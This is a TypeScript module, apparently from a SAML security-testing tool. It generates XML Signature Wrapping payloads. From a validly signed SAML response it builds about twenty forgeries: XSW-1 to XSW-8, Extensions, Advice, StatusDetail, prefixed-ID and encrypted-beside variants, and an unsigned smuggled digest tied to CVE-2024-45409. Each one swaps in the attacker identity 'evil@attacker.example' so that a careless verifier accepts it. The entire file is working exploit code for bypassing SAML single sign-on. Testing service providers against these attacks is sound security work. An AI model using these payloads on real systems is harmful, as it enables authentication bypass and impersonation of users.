/** Signature wrapping: structures around signed content that make a reader use other content. */
import { element, type XmlElement, type XmlNode } from '../../xml/write.ts';
import { attribute } from './assertion.ts';
import type { Wrapping } from './effect.ts';
import { DIGEST_OF_NOTHING, isSignature, mapped, withMore } from './signing.ts';

export interface Ingredients {
  /** Has the signed assertion as its last child or, for the first two kinds, is itself signed. */
  readonly response: XmlElement;
  readonly assertion: XmlElement;
  /** Encrypts to the service provider. */
  encrypt(assertion: XmlElement): XmlElement;
  /** Returns another valid assertion, signed under another ID. */
  another(): XmlElement;
}

/** Whether the attack wraps the response; the others wrap the assertion. */
export const wrapsResponse = (wrapping: Wrapping | undefined): boolean =>
  wrapping === 'xsw-1' || wrapping === 'xsw-2';

const EVIL_ID = '_evil';
/** The name that a fooled reader would accept. */
export const EVIL = 'evil@attacker.example';

export function wrapped(
  wrapping: Wrapping,
  { response, assertion, encrypt, another }: Ingredients,
): XmlElement {
  const signature = (wrapsResponse(wrapping) ? response : assertion).children.find(isSignature);
  if (signature === undefined) throw new Error('nothing was signed');
  const bare = without(assertion, signature);
  const evil = forged(bare);
  const sameId = forged(bare, bare.attributes.ID);
  const inPlace = (...instead: readonly XmlElement[]) => replaced(response, assertion, ...instead);
  switch (wrapping) {
    case 'xsw-1':
      return behindIssuer(
        forged(without(response, signature)),
        withMore(signature, object(without(response, signature))),
      );
    case 'xsw-2':
      return behindIssuer(forged(without(response, signature)), without(response, signature), signature);
    case 'xsw-3':
      return inPlace(evil, assertion);
    case 'xsw-4':
      return inPlace(withMore(evil, assertion));
    case 'xsw-5':
      return inPlace(behindIssuer(evil, signature), bare);
    case 'xsw-6':
      return inPlace(behindIssuer(evil, withMore(signature, bare)));
    case 'xsw-7':
      return behindIssuer(response, element('saml2p:Extensions', {}, sameId));
    case 'xsw-8':
      return inPlace(behindIssuer(evil, withMore(signature, object(bare))));
    case 'extensions':
      return behindIssuer(inPlace(behindIssuer(sameId, signature)), element('saml2p:Extensions', {}, bare));
    case 'object':
      return inPlace(replaced(assertion, signature, withMore(signature, object(evil))));
    case 'status-detail':
      return mapped(inPlace(evil), (one) =>
        one.name === 'saml2p:Status' ? withMore(one, element('saml2p:StatusDetail', {}, assertion)) : one,
      );
    case 'advice':
      return inPlace(withMore(evil, element('saml2:Advice', {}, assertion)));
    case 'attribute':
      return inPlace(intoAttribute(evil, assertion));
    case 'unsigned-beside':
      return inPlace(assertion, evil);
    case 'two-assertions':
      return inPlace(assertion, another());
    case 'foreign-assertion':
      return inPlace(element('other:Assertion', { ID: EVIL_ID }), assertion);
    case 'smuggled-digest':
      return behindIssuer(
        inPlace(forgedInPlace(assertion)),
        element('saml2p:Extensions', {}, smuggledReference(assertion.attributes.ID ?? '')),
      );
    case 'prefixed-id':
      return behindIssuer(
        inPlace(behindIssuer(withPrefixedId(evil, assertion.attributes.ID ?? ''), signature)),
        element('saml2p:Extensions', {}, bare),
      );
    case 'encrypted-beside':
      return inPlace(encrypt(evil), assertion);
  }
}

const without = (node: XmlElement, child: XmlElement): XmlElement => ({
  ...node,
  children: node.children.filter((one) => one !== child),
});

const replaced = (node: XmlElement, child: XmlElement, ...instead: readonly XmlElement[]): XmlElement => ({
  ...node,
  children: node.children.flatMap((one): readonly XmlNode[] => (one === child ? instead : [one])),
});

function behindIssuer(node: XmlElement, ...more: readonly XmlNode[]): XmlElement {
  const [issuer, ...rest] = node.children;
  return { ...node, children: [...(issuer === undefined ? [] : [issuer]), ...more, ...rest] };
}

const object = (content: XmlElement): XmlElement => element('ds:Object', {}, content);

/** Copies the element with the attacker's name, in its attributes too: applications take the person from either. */
const forged = (node: XmlElement, ID = EVIL_ID): XmlElement => ({
  ...forgedInPlace(node),
  attributes: { ...node.attributes, ID },
});

const forgedInPlace = (node: XmlElement): XmlElement =>
  mapped(node, (one) => (NAMES.has(one.name) ? { ...one, children: [EVIL] } : one));

const NAMES: ReadonlySet<string> = new Set(['saml2:NameID', 'saml2:AttributeValue']);

/** Adds an attribute of another namespace that careless readers take for the ID. */
const withPrefixedId = (node: XmlElement, id: string): XmlElement => ({
  ...node,
  attributes: { ...node.attributes, 'saml2:ID': id },
});

/** Inserts the content as the value of the first attribute. */
const intoAttribute = (evil: XmlElement, content: XmlElement): XmlElement =>
  mapped(evil, (one) =>
    one.name === 'saml2:AttributeStatement'
      ? { ...one, children: [attribute('evil', content), ...one.children] }
      : one,
  );

/** Builds an unsigned digest, placed where an XPath lookup finds it first (CVE-2024-45409). */
function smuggledReference(id: string): XmlElement {
  const reference = element(
    'ds:Reference',
    { URI: `#${id}` },
    element('ds:DigestValue', {}, DIGEST_OF_NOTHING),
  );
  return element('ds:Signature', {}, element('ds:SignedInfo', {}, reference));
}
